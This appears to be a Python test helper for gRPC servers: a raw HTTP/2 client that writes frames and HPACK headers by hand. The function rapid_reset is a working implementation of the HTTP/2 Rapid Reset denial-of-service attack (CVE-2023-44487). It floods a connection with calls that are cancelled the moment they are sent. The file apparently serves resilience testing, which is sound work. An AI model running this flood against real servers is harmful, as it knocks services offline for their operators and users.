"""A bare HTTP/2 client for gRPC calls that a well-behaved library would never make: frames written by hand
(HPACK literals without indexing), so a test can stop reading, withhold flow-control credit or open many
streams on one connection."""
from __future__ import annotations

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hpack_int(n: int, prefix_bits: int, first: int = 0) -> bytes:
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out, n = [first | top], n - top
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    return bytes(out + [n])


def hpack(headers: list) -> bytes:
    out = b""
    for k, v in headers:
        k, v = k.encode(), v.encode()
        out += b"\x00" + _hpack_int(len(k), 7) + k + _hpack_int(len(v), 7) + v
    return out


def call_frames(sid: int, method: str, message: bytes, metadata: list = ()) -> bytes:
    """A unary gRPC call's HEADERS and its one DATA frame (END_STREAM) on stream `sid`."""
    head = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"),
            ("content-type", "application/grpc"), ("te", "trailers"), *metadata]
    body = b"\x00" + struct.pack(">I", len(message)) + message
    return frame(HEADERS, END_HEADERS, sid, hpack(head)) + frame(DATA, END_STREAM, sid, body)


class RawH2:
    def __init__(self, target: str, window: int | None = None):
        host, port = target.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=30)
        settings = b"" if window is None else struct.pack(">HI", 4, window)  # SETTINGS_INITIAL_WINDOW_SIZE
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.next_stream = 1

    def call(self, method: str, message: bytes, metadata: list = ()) -> int:
        sid, self.next_stream = self.next_stream, self.next_stream + 2
        self.sock.sendall(call_frames(sid, method, message, metadata))
        return sid

    def read_frame(self):
        head = self._exact(9)
        n = int.from_bytes(head[:3], "big")
        kind, flags, sid = head[3], head[4], int.from_bytes(head[5:], "big") & 0x7FFFFFFF
        return kind, flags, sid, self._exact(n)

    def _exact(self, n: int) -> bytes:
        buf = b""
        while len(buf) < n:
            got = self.sock.recv(n - len(buf))
            if not got:
                raise ConnectionError("closed")
            buf += got
        return buf

    def serve_control(self, kind: int, flags: int, payload: bytes) -> None:
        """Acknowledge SETTINGS and PING as a live peer must (and grant no flow-control credit)."""
        if kind == SETTINGS and not flags & ACK:
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.sock.sendall(frame(PING, ACK, 0, payload))

    def close(self) -> None:
        self.sock.close()


REFUSED_STREAM, CANCEL = 7, 8  # RST_STREAM error codes


def rapid_reset(target: str, method: str, message: bytes, batches: int, batch: int, between) -> list[int]:
    """Rapid reset (CVE-2023-44487) on one raw connection: `batches` times, `batch` calls of `method` each reset
    (CANCEL) as soon as it is sent, then `between()` (e.g. another channel's call, checked); the streams the server
    refused (RST_STREAM REFUSED_STREAM), read by a live peer meanwhile."""
    import threading
    h = RawH2(target)
    refused, done = [], threading.Event()

    def read():  # acknowledges SETTINGS and PINGs, and counts the streams refused
        try:
            while not done.is_set():
                kind, flags, sid, payload = h.read_frame()
                h.serve_control(kind, flags, payload)
                if kind == RST_STREAM and int.from_bytes(payload, "big") == REFUSED_STREAM:
                    refused.append(sid)
        except (ConnectionError, OSError):
            return

    threading.Thread(target=read, daemon=True).start()
    try:
        for _ in range(batches):
            out = []
            for _ in range(batch):
                sid, h.next_stream = h.next_stream, h.next_stream + 2
                out.append(call_frames(sid, method, message) + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
            h.sock.sendall(b"".join(out))
            between()
    finally:
        done.set()
        h.close()
    return refused
